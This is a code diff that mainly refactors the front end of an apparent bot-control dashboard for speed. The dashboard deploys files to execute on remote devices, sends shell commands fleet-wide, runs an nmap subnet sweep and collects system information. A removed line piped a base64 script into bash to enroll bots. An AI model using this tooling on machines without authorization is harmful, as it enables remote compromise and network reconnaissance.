         // Terminal functions - appendToTerminal is defined later with enhanced features
         
+        // DOM writes queued for the next animation frame; scroll writes run last so layout is computed once
+        const frameWrites = new Set();
+        const pendingScroll = new Set();
+        let frameScheduled = 0;
+        
+        function scheduleFrameWrite(task) {
+            frameWrites.add(task);
+            if (!frameScheduled) frameScheduled = requestAnimationFrame(runFrameWrites);
+        }
+        
+        function runFrameWrites() {
+            frameScheduled = 0;
+            const tasks = Array.from(frameWrites);
+            frameWrites.clear();
+            tasks.forEach(task => task());
+            
+            pendingScroll.forEach(el => {
+                el.scrollTop = el.scrollHeight;
+            });
+            pendingScroll.clear();
+        }
+        
+        const HTML_ESCAPES = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };
+        
+        function escapeHTML(text) {
+            return String(text).replace(/[&<>"']/g, ch => HTML_ESCAPES[ch]);
+        }
+        
+        // Full payloads behind collapsed log details, keyed by their <pre> so trimmed lines release them
+        const lineDetails = new WeakMap();
+        
+        // toggle does not bubble, so one capturing listener covers every log panel
+        document.addEventListener('toggle', event => {
+            const details = event.target;
+            if (!details.open || !details.classList?.contains('terminal-details')) return;
+            const pre = details.querySelector('pre');
+            if (!pre.textContent && lineDetails.has(pre)) {
+                const payload = lineDetails.get(pre);
+                pre.textContent = typeof payload === 'string' ? payload : JSON.stringify(payload, null, 2);
+            }
+        }, true);
+        
+        // toLocaleTimeString goes through ICU each call; lines logged within the same second share one string
+        let stampSecond = -1;
+        let stampText = '';
+        
+        function logTimestamp() {
+            const second = Math.floor(Date.now() / 1000);
+            if (second !== stampSecond) {
+                stampSecond = second;
+                stampText = new Date(second * 1000).toLocaleTimeString();
+            }
+            return stampText;
+        }
+        
+        // Log panels queue their lines and write them in one batch per animation frame
+        function createLogBatcher(elementId, maxLines, shouldScroll = () => true) {
+            // Fixed ring of pending lines; a burst longer than the panel overwrites its oldest entries
+            const ring = new Array(maxLines);
+            let head = 0;
+            let pending = 0;
+            
+            let log = null;
+            
+            function flush() {
+                if (!log?.isConnected) {
+                    log = document.getElementById(elementId);
+                    if (!log) return;  // Panel not mounted yet; lines stay queued for the first flush after mount
+                }
+                const count = pending;
+                pending = 0;
+                
+                // Messages are plain text (device output included), so escaping them makes one parse for the whole batch safe
+                let html = '';
+                const start = head - count + maxLines;
+                for (let i = 0; i < count; i++) {
+                    const { message, type, timestamp, details } = ring[(start + i) % maxLines];
+                    const more = details === undefined ? '' : '<details class="terminal-details"><summary>details</summary><pre></pre></details>';
+                    html += `<div class="terminal-line terminal-${type}"><span class="terminal-timestamp">[${timestamp}]</span> ${escapeHTML(message)}${more}</div>`;
+                }
+                const firstNew = log.childElementCount;
+                log.insertAdjacentHTML('beforeend', html);
+                
+                // Attach detail payloads to their <pre>; they are only serialized when expanded
+                for (let i = 0; i < count; i++) {
+                    const { details } = ring[(start + i) % maxLines];
+                    if (details !== undefined) {
+                        lineDetails.set(log.children[firstNew + i].querySelector('pre'), details);
+                    }
+                }
+                
+                // Drop the overflow in one range deletion
+                const excess = log.childElementCount - maxLines;
+                if (excess > 0) {
+                    const range = document.createRange();
+                    range.setStartBefore(log.firstChild);
+                    range.setEndBefore(log.children[excess]);
+                    range.deleteContents();
+                }
+                
+                if (shouldScroll()) {
+                    pendingScroll.add(log);
+                }
+            }
+            
+            return {
+                push(message, type, details) {
+                    ring[head] = { message, type, details, timestamp: logTimestamp() };
+                    head = (head + 1) % maxLines;
+                    pending = Math.min(pending + 1, maxLines);
+                    scheduleFrameWrite(flush);
+                },
+                clear() {
+                    pending = 0;
+                }
+            };
+        }
+        
+        // Keep only the last 100 / 50 / 30 entries for performance
+        const terminalLines = createLogBatcher('terminal', 100, () => autoScrollEnabled);
+        const activityLines = createLogBatcher('activityLog', 50);
+        const botResultLines = createLogBatcher('botResultsTerminal', 30);
+        
         function appendToActivityLog(message, type = 'info') {
-            const log = document.getElementById('activityLog');
-            const timestamp = new Date().toLocaleTimeString();
-            const div = document.createElement('div');
-            div.className = `terminal-line terminal-${type}`;
-            div.innerHTML = `<span class="terminal-timestamp">[${timestamp}]</span> ${message}`;
-            log.appendChild(div);
-            log.scrollTop = log.scrollHeight;
+            activityLines.push(message, type);
+        }
+        
+        // Virtualized list: only rows in view plus a small buffer get DOM nodes,
+        // and those nodes are recycled as the list scrolls
+        const VIRTUAL_LIST_BUFFER = 5;
+        
+        function createVirtualList(container, rowHeight, renderRow) {
+            const topSpacer = document.createElement('div');
+            const bottomSpacer = document.createElement('div');
+            const pool = [];
+            let rows = [];
+            let frame = 0;
+            let dirty = true;
+            let lastStart = -1;
+            let lastEnd = -1;
+            
+            function render() {
+                frame = 0;
+                if (rows.length === 0) return;  // Leave placeholder messages alone
+                
+                const start = Math.max(0, Math.floor(container.scrollTop / rowHeight) - VIRTUAL_LIST_BUFFER);
+                const end = Math.min(rows.length, start + Math.ceil(container.clientHeight / rowHeight) + VIRTUAL_LIST_BUFFER * 2);
+                if (!dirty && start === lastStart && end === lastEnd) return;
+                dirty = false;
+                lastStart = start;
+                lastEnd = end;
+                
+                topSpacer.style.height = `${start * rowHeight}px`;
+                bottomSpacer.style.height = `${(rows.length - end) * rowHeight}px`;
+                const nodes = [];
+                for (let i = start; i < end; i++) {
+                    const node = pool[i - start] || (pool[i - start] = document.createElement('div'));
+                    renderRow(node, rows[i]);
+                    nodes.push(node);
+                }
+                container.replaceChildren(topSpacer, ...nodes, bottomSpacer);
+            }
+            
+            function schedule() {
+                if (!frame) frame = requestAnimationFrame(render);
+            }
             
-            // Keep only last 50 entries
-            while (log.children.length > 50) {
-                log.removeChild(log.firstChild);
+            container.addEventListener('scroll', schedule, { passive: true });
+            // A list laid out while hidden has no height yet; render again once it shows up
+            if ('IntersectionObserver' in window) {
+                new IntersectionObserver(entries => {
+                    if (entries.some(entry => entry.isIntersecting)) {
+                        dirty = true;
+                        schedule();
+                    }
+                }).observe(container);
             }
+            
+            return {
+                get rows() { return rows; },
+                setRows(newRows) {
+                    rows = newRows;
+                    dirty = true;
+                    render();
+                }
+            };
+        }
+        
+        // Row pitch: .device-item height (64px) plus its 0.5rem bottom margin
+        const DEVICE_ROW_HEIGHT = 72;
+        const selectedDeviceIds = new Set();
+        
+        const deviceItemTemplate = document.getElementById('deviceItemTpl').content;
+        // Device id -> the pooled row currently showing it
+        const deviceNodes = new Map();
+        
+        // Pooled rows are filled from the template once, then only their text and classes change
+        function renderDeviceRow(node, device) {
+            if (!node.firstElementChild) node.appendChild(deviceItemTemplate.cloneNode(true));
+            if (deviceNodes.get(node.dataset.deviceId) === node) deviceNodes.delete(node.dataset.deviceId);
+            deviceNodes.set(device.id, node);
+            node.className = selectedDeviceIds.has(device.id) ? 'device-item di-sel' : 'device-item';
+            node.dataset.deviceId = device.id;
+            node.querySelector('.device-status').className = `device-status ${device.online ? 'dsi-online' : 'dsi-offline'}`;
+            node.querySelector('.did').textContent = device.id;
+            node.querySelector('.exec').textContent = device.exec_allowed ? '⚡' : '🔒';
+            node.querySelector('.device-info').textContent = `Tags: ${(device.tags || []).join(', ') || 'none'} | ${device.age}s ago`;
         }
         
+        const deviceListView = createVirtualList(els.deviceList, DEVICE_ROW_HEIGHT, renderDeviceRow);
+        els.deviceList.addEventListener('click', event => {
+            const item = event.target.closest('.device-item');
+            if (item) toggleDeviceSelection(item.dataset.deviceId);
+        });
+        
         // Device management with loading states
+        // Bumped by every refresh; a response that arrives after a newer refresh started is dropped
+        let deviceRefreshSeq = 0;
+        let fileRefreshSeq = 0;
+        
         async function refreshDevices() {
-            // Show loading indicator
-            const deviceList = document.getElementById('deviceList');
+            const seq = ++deviceRefreshSeq;
+            const deviceList = els.deviceList;
             const previousContent = deviceList.innerHTML;
-            deviceList.innerHTML = '<div style="padding: 1rem; text-align: center; color: #00ff9f;">⏳ Loading devices...</div>';
+            const hadRows = deviceListView.rows.length > 0;
+            // Show loading indicator until the first rows arrive; later syncs update rows in place
+            if (!hadRows) {
+                deviceList.innerHTML = '<div style="padding: 1rem; text-align: center; color: #00ff9f;">⏳ Loading devices...</div>';
+            }
             
             try {
-                // Save currently selected devices
-                const selectedDevices = Array.from(document.querySelectorAll('.device-item.selected'))
-                    .map(item => item.textContent.match(/control-[^\s⚡🔒]+/)?.[0] || item.dataset.deviceId)
-                    .filter(id => id);
-                
                 const data = await api('/api/devices');
+                if (seq !== deviceRefreshSeq) return;
                 const devices = data.devices || [];
                 
-                const targetSelect = document.getElementById('targetSelect');
-                
-                deviceList.innerHTML = '';
-                targetSelect.innerHTML = '<option value="all">🌐 ALL DEVICES</option>';
+                const targetSelect = els.targetSelect;
+                const selectedTarget = targetSelect.value;
+                const allOption = document.createElement('option');
+                allOption.value = 'all';
+                allOption.textContent = '🌐 ALL DEVICES';
                 
                 let onlineCount = 0;
                 
                 // Show message if no devices
                 if (devices.length === 0) {
+                    targetSelect.replaceChildren(allOption);
+                    deviceListView.setRows([]);
+                    selectedDeviceIds.clear();
                     deviceList.innerHTML = '<div style="padding: 1rem; text-align: center; color: #666;">No devices connected. Control bot will appear here once initialized.</div>';
                     appendToActivityLog('⚠️ No devices found - ensure control bot is running', 'warning');
-                    return;
+                    return '';
                 }
                 
-                devices.forEach(device => {
-                    const age = Math.round((Date.now() / 1000) - device.last_seen);
-                    const isOnline = age < 60;
-                    if (isOnline) onlineCount++;
-                    
-                    const deviceItem = document.createElement('div');
-                    deviceItem.className = 'device-item';
-                    deviceItem.dataset.deviceId = device.id;
-                    
-                    // Restore selection if this device was previously selected
-                    if (selectedDevices.includes(device.id)) {
-                        deviceItem.classList.add('selected');
-                    }
-                    
-                    deviceItem.onclick = () => toggleDeviceSelection(device.id);
-                    
-                    deviceItem.innerHTML = `
-                        <div>
-                            <span class="device-status ${isOnline ? 'online' : 'offline'}"></span>
-                            <strong>${device.id}</strong>
-                            ${device.exec_allowed ? '⚡' : '🔒'}
-                        </div>
-                        <div class="device-info">
-                            Tags: ${(device.tags || []).join(', ') || 'none'} | ${age}s ago
-                        </div>
-                    `;
-                    
-                    deviceList.appendChild(deviceItem);
+                const now = Date.now() / 1000;
+                const options = document.createDocumentFragment();
+                options.appendChild(allOption);
+                const rows = devices.map(device => {
+                    const age = Math.round(now - device.last_seen);
+                    const online = age < 60;
+                    if (online) onlineCount++;
                     
                     // Add to target select
                     const option = document.createElement('option');
                     option.value = `id:${device.id}`;
                     option.textContent = `🤖 ${device.id}`;
-                    targetSelect.appendChild(option);
+                    options.appendChild(option);
+                    
+                    return { ...device, age, online };
+                });
+                // One write for the whole option list; keep the operator's target if it is still there
+                targetSelect.replaceChildren(options);
+                targetSelect.value = selectedTarget;
+                if (targetSelect.selectedIndex === -1) targetSelect.value = 'all';
+                
+                // Keep selections only for devices that are still connected
+                const currentIds = new Set(rows.map(device => device.id));
+                selectedDeviceIds.forEach(id => {
+                    if (!currentIds.has(id)) selectedDeviceIds.delete(id);
                 });
                 
+                deviceListView.setRows(rows);
+                
                 // Update stats
                 document.getElementById('deviceCount').textContent = devices.length;
-                document.getElementById('onlineCount').textContent = onlineCount;
+                els.onlineCount.textContent = onlineCount;
                 
                 appendToActivityLog(`📊 Device sync complete: ${devices.length} total, ${onlineCount} online`);
                 
+                // Fleet signature for the poller: which devices exist and whether each is online
+                return rows.map(device => `${device.id}${device.online ? '+' : '-'}`).join();
+            
             } catch (error) {
-                // Restore previous content on error
-                deviceList.innerHTML = previousContent || '<div style="padding: 1rem; text-align: center; color: #ff0080;">❌ Failed to load devices</div>';
+                if (seq !== deviceRefreshSeq) return;
+                // Restore previous content on error; existing rows are left as they were
+                if (!hadRows) {
+                    deviceList.innerHTML = previousContent || '<div style="padding: 1rem; text-align: center; color: #ff0080;">❌ Failed to load devices</div>';
+                }
                 
                 appendToTerminal(`❌ Failed to refresh devices: ${error.message}`, 'error');
                 appendToActivityLog(`❌ Device refresh failed: ${error.message}`, 'error');
@@ -3636,12 +4214,15 @@ UI_HTML = r"""<!DOCTYPE html>
         }
         
         function toggleDeviceSelection(deviceId) {
-            const deviceItems = document.querySelectorAll('.device-item');
-            deviceItems.forEach(item => {
-                if (item.dataset.deviceId === deviceId || item.textContent.includes(deviceId)) {
-                    item.classList.toggle('selected');
-                }
-            });
+            const selected = !selectedDeviceIds.has(deviceId);
+            if (selected) {
+                selectedDeviceIds.add(deviceId);
+            } else {
+                selectedDeviceIds.delete(deviceId);
+            }
+            // Only the clicked row changes; rows scrolled out of view pick it up when rendered
+            const node = deviceNodes.get(deviceId);
+            if (node) node.classList.toggle('di-sel', selected);
         }
         
         // Command execution is handled by sendTerminalCommand (defined later)
@@ -3670,6 +4251,109 @@ UI_HTML = r"""<!DOCTYPE html>
             }
         }
         
+        // XHR rather than fetch: it reports upload progress, and the browser streams the File body from disk
+        function sendUpload(file, onProgress) {
+            return new Promise((resolve, reject) => {
+                const xhr = new XMLHttpRequest();
+                xhr.open('POST', apiUrl('/api/upload', { name: file.name }));
+                xhr.setRequestHeader('Content-Type', 'application/octet-stream');
+                xhr.responseType = 'json';
+                xhr.upload.onprogress = e => {
+                    if (e.lengthComputable) onProgress(e.loaded / e.total);
+                };
+                xhr.onload = () => resolve({ ok: xhr.status >= 200 && xhr.status < 300, result: xhr.response || {} });
+                xhr.onerror = () => reject(new Error('network error'));
+                xhr.send(file);
+            });
+        }
+        
+        // Progress events can outpace frames; the bar is written at most once per frame
+        let uploadProgress = null;
+        
+        function writeUploadProgress() {
+            const bar = document.getElementById('uploadProgress');
+            bar.hidden = uploadProgress === null;
+            bar.firstElementChild.style.transform = `scaleX(${uploadProgress || 0})`;
+        }
+        
+        function setUploadProgress(fraction) {
+            uploadProgress = fraction;
+            scheduleFrameWrite(writeUploadProgress);
+        }
+        
+        // SHA-256 of local files, computed in a worker so large files never block the page.
+        // crypto.subtle only exists in secure contexts (HTTPS or localhost); elsewhere hashing is skipped.
+        const HASH_WORKER_SOURCE = `
+            self.onmessage = async e => {
+                let digest = null;
+                try {
+                    digest = await crypto.subtle.digest('SHA-256', await e.data.file.arrayBuffer());
+                } catch (error) {}
+                self.postMessage({ id: e.data.id, digest });
+            };
+        `;
+        let hashWorker = null;
+        let hashWorkerFailed = false;  // e.g. blob: workers blocked by CSP; uploads then skip dedup
+        let hashRequestId = 0;
+        const hashWaiters = new Map();
+        // Digests by name, size and mtime, so picking the same file again skips hashing
+        const fileHashes = new Map();
+        
+        function failHashWorker() {
+            hashWorkerFailed = true;
+            hashWorker?.terminate();
+            hashWorker = null;
+            hashWaiters.forEach(resolve => resolve(null));
+            hashWaiters.clear();
+        }
+        
+        function startHashWorker() {
+            try {
+                hashWorker = new Worker(URL.createObjectURL(new Blob([HASH_WORKER_SOURCE], { type: 'text/javascript' })));
+            } catch (error) {
+                failHashWorker();
+                return;
+            }
+            hashWorker.onmessage = e => {
+                hashWaiters.get(e.data.id)?.(e.data.digest);
+                hashWaiters.delete(e.data.id);
+            };
+            hashWorker.onerror = failHashWorker;
+            hashWorker.onmessageerror = failHashWorker;
+        }
+        
+        // Resolves to the hex digest, or null when the file cannot be hashed here
+        function hashFile(file) {
+            if (!window.isSecureContext || !window.crypto?.subtle || !window.Worker) {
+                return Promise.resolve(null);
+            }
+            
+            const key = `${file.name}\n${file.size}\n${file.lastModified}`;
+            if (fileHashes.has(key)) return fileHashes.get(key);
+            
+            if (!hashWorker && !hashWorkerFailed) startHashWorker();
+            if (hashWorkerFailed) return Promise.resolve(null);
+            
+            const id = ++hashRequestId;
+            const hash = new Promise(resolve => {
+                hashWaiters.set(id, resolve);
+                try {
+                    hashWorker.postMessage({ id, file });
+                } catch (error) {
+                    hashWaiters.delete(id);
+                    resolve(null);
+                }
+            }).then(digest => {
+                if (!digest) {
+                    fileHashes.delete(key);  // Failures are not memoized
+                    return null;
+                }
+                return Array.from(new Uint8Array(digest), b => b.toString(16).padStart(2, '0')).join('');
+            });
+            fileHashes.set(key, hash);
+            return hash;
+        }
+        
         async function uploadFiles(files) {
             for (let file of files) {
                 if (file.size > 50 * 1024 * 1024) {
@@ -3678,19 +4362,25 @@ UI_HTML = r"""<!DOCTYPE html>
                 }
                 
                 try {
-                    appendToTerminal(`📤 Uploading ${file.name}...`, 'info');
-                    
-                    const formData = new FormData();
-                    formData.append('file', file);
+                    // Skip files the server already holds
+                    const sha256 = await hashFile(file);
+                    if (sha256) {
+                        const data = await api('/api/uploads');
+                        const existing = (data.uploads || []).find(upload => upload.sha256 === sha256);
+                        if (existing) {
+                            appendToTerminal(`♻️ ${file.name} is already uploaded as ${existing.filename} (ID: ${existing.id})`, 'info');
+                            continue;
+                        }
+                    }
                     
-                    const response = await fetch(`/api/upload?token=${token}`, {
-                        method: 'POST',
-                        body: formData
-                    });
+                    appendToTerminal(`📤 Uploading ${file.name}...`, 'info');
                     
-                    const result = await response.json();
+                    setUploadProgress(0);
+                    const { ok, result } = await sendUpload(file, setUploadProgress);
                     
-                    if (response.ok) {
+                    if (ok) {
+                        // Uploads bypass api(), so drop its cached reads by hand
+                        apiCache.clear();
                         appendToTerminal(`✅ Upload successful: ${result.filename} (ID: ${result.id})`, 'success');
                         appendToActivityLog(`📁 File uploaded: ${result.filename}`);
                         await refreshFiles();
@@ -3699,16 +4389,20 @@ UI_HTML = r"""<!DOCTYPE html>
                     }
                 } catch (error) {
                     appendToTerminal(`❌ Upload error: ${error.message}`, 'error');
+                } finally {
+                    setUploadProgress(null);
                 }
             }
         }
         
         async function refreshFiles() {
+            const seq = ++fileRefreshSeq;
             try {
                 const data = await api('/api/uploads');
+                if (seq !== fileRefreshSeq) return;
                 const files = data.uploads || [];
                 
-                const fileList = document.getElementById('fileList');
+                const fileList = els.fileList;
                 fileList.innerHTML = '';
                 
                 files.forEach(file => {
@@ -3733,8 +4427,17 @@ UI_HTML = r"""<!DOCTYPE html>
             }
         }
         
+        // One-line summary of a /api/send response: per-device results counted, not serialized
+        function summarizeResult(result) {
+            if (result.error) return result.error;
+            const results = Object.values(result.results || {});
+            const sent = results.filter(r => r.status === 'sent').length;
+            const failed = results.length - sent;
+            return `${sent}/${results.length} sent` + (failed ? `, ${failed} failed` : '');
+        }
+        
         async function deployFile(fileId) {
-            const target = document.getElementById('targetSelect').value;
+            const target = els.targetSelect.value;
             
             if (!confirm(`Deploy file ${fileId} to ${target}?\\n\\nThis will execute the file on devices with exec_allowed=true.`)) {
                 return;
@@ -3752,7 +4455,7 @@ UI_HTML = r"""<!DOCTYPE html>
                     })
                 });
                 
-                appendToTerminal(`📥 Deploy result: ${JSON.stringify(result, null, 2)}`, 'success');
+                appendToTerminal(`📥 Deploy result: ${summarizeResult(result)}`, result.error ? 'error' : 'success', result);
                 appendToActivityLog(`🚀 File deployed: ${fileId} → ${target}`);
                 
             } catch (error) {
@@ -3770,9 +4473,8 @@ UI_HTML = r"""<!DOCTYPE html>
             
             // Show/hide tab content
             document.querySelectorAll('.tab-content').forEach(content => {
-                content.style.display = 'none';
+                content.classList.toggle('tab-hidden', content.id !== tabName + 'Tab');
             });
-            document.getElementById(tabName + 'Tab').style.display = 'block';
             
             currentTab = tabName;
             
@@ -3781,6 +4483,7 @@ UI_HTML = r"""<!DOCTYPE html>
             } else if (tabName === 'services') {
                 refreshServices();
             } else if (tabName === 'bots') {
+                mountBotsTab();
                 updateBotStats();
                 appendToBotResults('🤖 Bot Control Center activated');
             }
@@ -3802,17 +4505,39 @@ UI_HTML = r"""<!DOCTYPE html>
         }
         
         // Utility functions
+        // Metric counters may change many times per frame; they are written once, in the frame batch
         function updateMetrics() {
+            scheduleFrameWrite(writeMetrics);
+        }
+        
+        // Text last written to each metric element; unchanged values skip the DOM write
+        const writtenText = new WeakMap();
+        
+        function writeText(el, text) {
+            text = String(text);
+            if (writtenText.get(el) !== text) {
+                writtenText.set(el, text);
+                el.textContent = text;
+            }
+        }
+        
+        function writeMetrics() {
             const successRate = commandCount > 0 ? Math.round((successfulCommands / commandCount) * 100) : 100;
-            document.getElementById('totalCommands').textContent = commandCount;
-            document.getElementById('successRate').textContent = successRate + '%';
+            writeText(els.totalCommands, commandCount);
+            writeText(els.successRate, successRate + '%');
         }
         
+        // The clock shows whole minutes, so it ticks once per minute boundary rather than polling
         function updateUptime() {
+            scheduleFrameWrite(writeUptime);
+            setTimeout(updateUptime, 60000 - (Date.now() - startTime) % 60000);
+        }
+        
+        function writeUptime() {
             const uptime = Math.floor((Date.now() - startTime) / 1000);
             const hours = Math.floor(uptime / 3600);
             const minutes = Math.floor((uptime % 3600) / 60);
-            document.getElementById('uptime').textContent = `${hours.toString().padStart(2, '0')}:${minutes.toString().padStart(2, '0')}`;
+            writeText(els.uptime, `${hours.toString().padStart(2, '0')}:${minutes.toString().padStart(2, '0')}`);
         }
         
         function filterByGroup(group) {
@@ -3853,17 +4578,9 @@ UI_HTML = r"""<!DOCTYPE html>
                     appendToBotResults(`📋 Deployment script generated`);
                     appendToBotResults(`📡 Bot ready for connection...`);
                     
-                    // Show deployment instructions - Fixed Unicode encoding issue
-                    const instructions = `
-To connect this bot, run the following on the target device:
-
-curl -sSL "data:text/plain;base64,${btoa(unescape(encodeURIComponent(result.deployment_script)))}" | bash
-
-Or manually execute the deployment script.
-                    `;
-                    
+                    // The script stays collapsed until expanded, so large scripts add nothing to the panel up front
                     appendToBotResults(`📋 Deployment Instructions:`);
-                    appendToBotResults(instructions);
+                    appendToBotResults(`To connect this bot, save the deployment script (${result.deployment_script.length} chars) on the target device and run it with bash`, 'info', result.deployment_script);
                     
                     // Update bot count
                     updateBotStats();
@@ -3893,7 +4610,7 @@ Or manually execute the deployment script.
         }
         
         async function removeSelectedBots() {
-            const selectedDevices = document.querySelectorAll('.device-item.selected');
+            const selectedDevices = Array.from(selectedDeviceIds);
             if (selectedDevices.length === 0) {
                 appendToTerminal('⚠️ No bots selected for removal', 'warning');
                 return;
@@ -3906,8 +4623,7 @@ Or manually execute the deployment script.
             try {
                 appendToBotResults(`🗑️ Removing ${selectedDevices.length} bot(s)...`);
                 
-                for (let device of selectedDevices) {
-                    const botId = device.querySelector('strong').textContent;
+                for (let botId of selectedDevices) {
                     appendToBotResults(`🔴 Disconnecting bot: ${botId}`);
                     
                     const result = await api('/api/bot/remove', {
@@ -3918,7 +4634,8 @@ Or manually execute the deployment script.
                     
                     if (result.status === 'success') {
                         appendToBotResults(`✅ Bot ${botId} removed successfully`);
-                        device.remove();
+                        selectedDeviceIds.delete(botId);
+                        deviceListView.setRows(deviceListView.rows.filter(device => device.id !== botId));
                     } else {
                         appendToBotResults(`❌ Failed to remove bot ${botId}: ${result.error}`);
                     }
@@ -3935,7 +4652,29 @@ Or manually execute the deployment script.
             }
         }
         
+        // Bulk buttons act on the last click of a burst
+        const BULK_DEBOUNCE_MS = 200;
+        
+        function debounce(fn, wait) {
+            let timer;
+            return (...args) => {
+                clearTimeout(timer);
+                timer = setTimeout(() => fn(...args), wait);
+            };
+        }
+        
+        // Commands behind the bulk action dropdown
+        const BULK_ACTION_COMMANDS = {
+            'status': 'echo "Bot Status: Online" && uptime',
+            'update': 'pkg update -y || apt update -y || yum update -y',
+            'restart': 'systemctl restart unified-agent || pkill -f unified',
+            'scan_network': 'nmap -sn 192.168.1.0/24 || ping -c 1 8.8.8.8',
+            'collect_info': 'uname -a && free -h && df -h && whoami'
+        };
+        
         function executeBulkAction() {
+            if (sending) return;  // The previous bulk action is still running
+            
             const target = document.getElementById('bulkTargetSelect').value;
             const action = document.getElementById('bulkActionSelect').value;
             
@@ -3946,22 +4685,14 @@ Or manually execute the deployment script.
             
             document.getElementById('customCommandArea').style.display = 'none';
             
-            const actionCommands = {
-                'status': 'echo "Bot Status: Online" && uptime',
-                'update': 'pkg update -y || apt update -y || yum update -y',
-                'restart': 'systemctl restart unified-agent || pkill -f unified',
-                'scan_network': 'nmap -sn 192.168.1.0/24 || ping -c 1 8.8.8.8',
-                'collect_info': 'uname -a && free -h && df -h && whoami'
-            };
-            
-            const command = actionCommands[action];
+            const command = BULK_ACTION_COMMANDS[action];
             if (command) {
                 appendToBotResults(`🚀 Executing bulk action "${action}" on ${target} bots`);
                 appendToBotResults(`📡 Command: ${command}`);
                 
                 // Execute via main command system
-                document.getElementById('targetSelect').value = target === 'all' ? 'all' : `tag:${target}`;
-                document.getElementById('commandInput').value = command;
+                els.targetSelect.value = target === 'all' ? 'all' : `tag:${target}`;
+                els.commandInput.value = command;
                 sendCommand();
             }
         }
@@ -3994,16 +4725,26 @@ Or manually execute the deployment script.
             appendToBotResults('⏳ Restart in progress - bots will reconnect shortly');
         }
         
+        // Bot group names mapped to target specifications
+        const BULK_TARGETS = {
+            'all': 'all',
+            'mobile': 'tag:mobile',
+            'servers': 'tag:servers',
+            'scanners': 'tag:scanners'
+        };
+        
+        // Bulk commands currently running, keyed by target and command
+        const bulkInFlight = new Set();
+        
         async function executeBulkCommandOnBots(target, command) {
-            // Map target to proper specification
-            const targetMap = {
-                'all': 'all',
-                'mobile': 'tag:mobile',
-                'servers': 'tag:servers', 
-                'scanners': 'tag:scanners'
-            };
+            const key = `${target}\n${command}`;
+            if (bulkInFlight.has(key)) {
+                appendToBotResults(`⏳ Already running on ${target} bots`);
+                return;
+            }
+            bulkInFlight.add(key);
             
-            const realTarget = targetMap[target] || target;
+            const realTarget = BULK_TARGETS[target] || target;
             
             // Execute via terminal API to get real results
             try {
@@ -4049,31 +4790,21 @@ Or manually execute the deployment script.
                 }
             } catch (error) {
                 appendToBotResults(`❌ Bulk operation failed: ${error.message}`, 'error');
+            } finally {
+                bulkInFlight.delete(key);
             }
         }
         
-        function appendToBotResults(message, type = 'info') {
-            const terminal = document.getElementById('botResultsTerminal');
-            if (!terminal) return;
-            
-            const timestamp = new Date().toLocaleTimeString();
-            const div = document.createElement('div');
-            div.className = `terminal-line terminal-${type}`;
-            div.innerHTML = `<span class="terminal-timestamp">[${timestamp}]</span> ${message}`;
-            terminal.appendChild(div);
-            terminal.scrollTop = terminal.scrollHeight;
-            
-            // Keep only last 30 entries
-            while (terminal.children.length > 30) {
-                terminal.removeChild(terminal.firstChild);
-            }
+        function appendToBotResults(message, type = 'info', details) {
+            botResultLines.push(message, type, details);
         }
         
         function updateBotStats() {
             // Update bot network statistics
-            const devices = document.querySelectorAll('.device-item');
+            // Counted from the device rows; the virtualized list only renders the visible ones
+            const devices = deviceListView.rows;
             const totalBots = devices.length;
-            const onlineBots = document.querySelectorAll('.device-status.online').length;
+            const onlineBots = devices.filter(device => device.online).length;
             const executingBots = 0; // Would be calculated from active commands
             
             // Update main stats
@@ -4103,7 +4834,9 @@ Or manually execute the deployment script.
         
         // Custom Bot Creation Functions
         function showCustomBotCreator() {
-            document.getElementById('customBotCreator').style.display = 'block';
+            if (!mountTemplate('customBotCreatorTpl')) {
+                document.getElementById('customBotCreator').style.display = 'block';
+            }
             appendToBotResults('🛠️ Custom Bot Creator opened');
         }
         
@@ -4177,7 +4910,7 @@ Or manually execute the deployment script.
         
         function toggleRealTerminalMode() {
             realTerminalMode = document.getElementById('realTerminalMode').checked;
-            const placeholder = document.getElementById('commandInput');
+            const placeholder = els.commandInput;
             
             if (realTerminalMode) {
                 placeholder.placeholder = 'Real Terminal Mode: Direct shell access (e.g., cd /tmp && ls -la)';
@@ -4193,50 +4926,53 @@ Or manually execute the deployment script.
         
         // System simulation
         async function simulateSystemLoad() {
+            let cpu, memory, load;
             try {
                 // Get real system stats instead of simulation
                 const stats = await api('/api/system/stats');
                 if (stats && stats.system) {
-                    const cpuLoad = stats.system.cpu_usage || '0%';
-                    const memoryLoad = stats.system.memory_usage || '0%';
-                    
-                    document.getElementById('cpuUsage').textContent = cpuLoad;
-                    document.getElementById('memoryUsage').textContent = memoryLoad;
+                    cpu = stats.system.cpu_usage || '0%';
+                    memory = stats.system.memory_usage || '0%';
                     
                     // Parse numeric values for overall load
-                    const cpuNum = parseInt(cpuLoad) || 0;
-                    const memoryNum = parseInt(memoryLoad) || 0;
-                    document.getElementById('systemLoad').textContent = Math.max(cpuNum, memoryNum) + '%';
+                    load = Math.max(parseInt(cpu) || 0, parseInt(memory) || 0) + '%';
                 } else {
                     // Fallback to conservative estimates if API fails
                     const cpuLoad = Math.floor(Math.random() * 5) + 3; // 3-8% (much lower)
                     const memoryLoad = Math.floor(Math.random() * 10) + 15; // 15-25%
                     
-                    document.getElementById('cpuUsage').textContent = cpuLoad + '%';
-                    document.getElementById('memoryUsage').textContent = memoryLoad + '%';
-                    document.getElementById('systemLoad').textContent = Math.max(cpuLoad, memoryLoad) + '%';
+                    cpu = cpuLoad + '%';
+                    memory = memoryLoad + '%';
+                    load = Math.max(cpuLoad, memoryLoad) + '%';
                 }
             } catch (error) {
                 console.warn('System load monitoring failed:', error);
                 // Conservative fallback values
-                document.getElementById('cpuUsage').textContent = '5%';
-                document.getElementById('memoryUsage').textContent = '20%';
-                document.getElementById('systemLoad').textContent = '20%';
+                cpu = '5%';
+                memory = '20%';
+                load = '20%';
             }
+            
+            scheduleFrameWrite(() => {
+                writeText(els.cpuUsage, cpu);
+                writeText(els.memoryUsage, memory);
+                writeText(els.systemLoad, load);
+            });
+            return `${cpu} ${memory}`;
         }
         
         // Enhanced Terminal Functions - Assigned to window and global scope for onclick handlers
         function sendTerminalCommand() {
-            const target = document.getElementById('targetSelect').value;
-            const command = document.getElementById('commandInput').value.trim();
-            const statusEl = document.getElementById('terminalConnectionStatus');
+            const target = els.targetSelect.value;
+            const command = els.commandInput.value.trim();
+            const statusEl = els.terminalConnectionStatus;
             
             // Validate command
             const validation = validateCommand(command);
             if (!validation.valid) {
                 showNotification(validation.message, 'error');
                 // Flash the input to indicate it needs attention
-                const input = document.getElementById('commandInput');
+                const input = els.commandInput;
                 input.style.border = '2px solid #ff0080';
                 setTimeout(() => input.style.border = '', 500);
